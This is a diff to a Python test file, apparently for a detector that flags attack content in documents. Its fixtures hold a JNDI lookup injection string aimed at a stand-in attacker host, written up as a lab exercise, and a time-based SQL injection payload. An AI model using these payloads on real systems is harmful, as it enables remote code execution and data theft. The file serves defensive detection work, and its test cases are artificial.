@@ -137,6 +137,45 @@ def test_fingerprint_ignores_moving_the_walkthrough() -> None:
     assert a.fingerprint == b.fingerprint
 
 
+# The attack input is a payload of one of the shared families (_payloads.py), in prose.
+FAMILY_PAYLOAD = """
+    ## Lab setup
+
+    ```
+    docker compose up -d
+    ```
+
+    ## Notes
+
+    Put ${jndi:ldap://attacker.invalid/a} into the search box of the lab at your-ip:8080.
+
+    The lookup was triggered and the class was loaded successfully.
+"""
+
+
+def test_payload_families_are_attack_input() -> None:
+    (h,) = scan(FAMILY_PAYLOAD)
+    assert h.strong
+    assert f"JNDI lookup injection (line {line_of(FAMILY_PAYLOAD, 'jndi')})" in h.what
+
+
+# A payload under an "exploitation technique" heading, with no command, request or proof:
+# an illustration, not even a warning.
+PAYLOAD_EXAMPLE_ONLY = """
+    ## Time-based exploitation technique
+
+    ```text
+    /item?id=10 AND IF(1=1, sleep(5), 0)
+    ```
+
+    The delay tells the tester the condition held.
+"""
+
+
+def test_a_payload_alone_under_an_exploitation_heading_is_quiet() -> None:
+    assert scan(PAYLOAD_EXAMPLE_ONLY) == []
+
+
 # --- near misses ------------------------------------------------------------------------------
 
 # A prevention guide's one illustrative payload: no lab, no host to attack.
